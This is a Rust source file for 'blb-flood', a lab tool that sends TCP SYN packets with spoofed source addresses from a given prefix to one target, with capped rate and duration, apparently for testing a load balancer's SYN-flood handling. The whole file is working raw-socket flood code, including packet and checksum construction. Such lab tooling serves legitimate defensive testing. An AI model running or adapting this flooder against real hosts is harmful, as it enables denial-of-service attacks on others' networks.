//! `blb-flood`: TCP SYNs with spoofed IPv4 sources from a prefix, at a fixed rate, for the
//! SYN-flood lab. Raw socket (`IPPROTO_RAW`), so it needs root in its namespace. Bounded in
//! rate and time; it sends only to the address it is given, and the sources must lie in the
//! prefix it is given (the lab uses an unrouted one). Prints one JSON report.

use std::{
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    process::ExitCode,
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use clap::Parser;
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// Upper bounds so a mistaken argument cannot turn into a real flood.
const MAX_RATE: u32 = 50_000;
const MAX_SECONDS: f64 = 60.0;

/// Spoofed SYN generator for the balancer lab.
#[derive(Debug, Parser)]
#[command(name = "blb-flood")]
struct Args {
    /// The VIP:port to flood (IPv4).
    #[arg(long)]
    to: SocketAddrV4,
    /// Source prefix, e.g. 10.99.0.0/16: every SYN's source address is drawn from it.
    #[arg(long)]
    from: String,
    /// SYNs per second.
    #[arg(long, default_value_t = 8000)]
    rate: u32,
    /// Seconds to run.
    #[arg(long, default_value_t = 10.0)]
    seconds: f64,
}

#[derive(serde::Serialize)]
struct Report {
    sent: u64,
    send_errors: u64,
    seconds: f64,
}

fn parse_prefix(s: &str) -> Result<(u32, u32)> {
    let (a, len) = s.split_once('/').context("prefix as a.b.c.d/len")?;
    let a: Ipv4Addr = a.parse().context("prefix address")?;
    let len: u32 = len.parse().context("prefix length")?;
    if !(8..=30).contains(&len) {
        bail!("prefix length must be 8..=30");
    }
    let mask = u32::MAX << (32 - len);
    Ok((u32::from(a) & mask, !mask))
}

/// The ones' complement sum of `data` folded into 16 bits, added to `acc`.
fn sum16(mut acc: u32, data: &[u8]) -> u32 {
    for c in data.chunks(2) {
        let w = if c.len() == 2 {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from_be_bytes([c[0], 0])
        };
        acc += u32::from(w);
    }
    acc
}

fn fold(mut acc: u32) -> u16 {
    while acc > 0xffff {
        acc = (acc & 0xffff) + (acc >> 16);
    }
    !(acc as u16)
}

/// An IPv4 + TCP SYN (20 + 20 bytes) from `src:sport` to `dst`.
fn syn(src: Ipv4Addr, sport: u16, dst: SocketAddrV4, seq: u32) -> [u8; 40] {
    let mut p = [0u8; 40];
    p[0] = 0x45;
    p[2..4].copy_from_slice(&40u16.to_be_bytes());
    p[6] = 0x40; // DF
    p[8] = 64;
    p[9] = 6;
    p[12..16].copy_from_slice(&src.octets());
    p[16..20].copy_from_slice(&dst.ip().octets());
    let ip_sum = fold(sum16(0, &p[..20]));
    p[10..12].copy_from_slice(&ip_sum.to_be_bytes());
    let t = &mut p[20..];
    t[0..2].copy_from_slice(&sport.to_be_bytes());
    t[2..4].copy_from_slice(&dst.port().to_be_bytes());
    t[4..8].copy_from_slice(&seq.to_be_bytes());
    t[12] = 5 << 4;
    t[13] = 0x02; // SYN
    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&src.octets());
    pseudo[4..8].copy_from_slice(&dst.ip().octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
    let tcp_sum = fold(sum16(sum16(0, &pseudo), t));
    t[16..18].copy_from_slice(&tcp_sum.to_be_bytes());
    p
}

/// xorshift32: the sources and ports need no more than that.
fn next(x: &mut u32) -> u32 {
    *x ^= *x << 13;
    *x ^= *x >> 17;
    *x ^= *x << 5;
    *x
}

fn run(a: &Args) -> Result<Report> {
    if a.rate == 0 || a.rate > MAX_RATE {
        bail!("rate must be 1..={MAX_RATE}");
    }
    if !(a.seconds > 0.0 && a.seconds <= MAX_SECONDS) {
        bail!("seconds must be in (0, {MAX_SECONDS}]");
    }
    let (net, host_mask) = parse_prefix(&a.from)?;
    let sock = Socket::new(
        Domain::IPV4,
        Type::from(libc::SOCK_RAW),
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw socket (root needed)")?;
    let to = SockAddr::from(SocketAddr::V4(a.to));
    let start = Instant::now();
    let limit = Duration::from_secs_f64(a.seconds);
    let mut rng = 0x9e37_79b9u32 ^ std::process::id();
    let (mut sent, mut errors) = (0u64, 0u64);
    // Sent in batches of one millisecond's worth, on schedule.
    let per_ms = f64::from(a.rate) / 1000.0;
    while start.elapsed() < limit {
        let due = (start.elapsed().as_secs_f64() * 1000.0 * per_ms) as u64;
        while sent + errors < due {
            let host = next(&mut rng) & host_mask;
            let src = Ipv4Addr::from(net | host.max(1));
            let sport = 1024 + (next(&mut rng) % 64000) as u16;
            let pkt = syn(src, sport, a.to, next(&mut rng));
            match sock.send_to(&pkt, &to) {
                Ok(_) => sent += 1,
                Err(_) => errors += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    Ok(Report {
        sent,
        send_errors: errors,
        seconds: start.elapsed().as_secs_f64(),
    })
}

fn main() -> ExitCode {
    let a = Args::parse();
    match run(&a) {
        Ok(r) => {
            println!("{}", serde_json::to_string(&r).unwrap_or_default());
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("blb-flood: {e:#}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn checksums_verify() {
        let p = syn(
            "10.99.1.2".parse().unwrap(),
            4321,
            "10.77.0.100:6661".parse().unwrap(),
            7,
        );
        assert_eq!(fold(sum16(0, &p[..20])), 0, "ip header checksum");
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&p[12..16]);
        pseudo[4..8].copy_from_slice(&p[16..20]);
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&20u16.to_be_bytes());
        assert_eq!(fold(sum16(sum16(0, &pseudo), &p[20..])), 0, "tcp checksum");
        assert_eq!(parse_prefix("10.99.0.0/16").unwrap(), (0x0a63_0000, 0xffff));
        assert!(parse_prefix("10.99.0.0/4").is_err());
    }
}
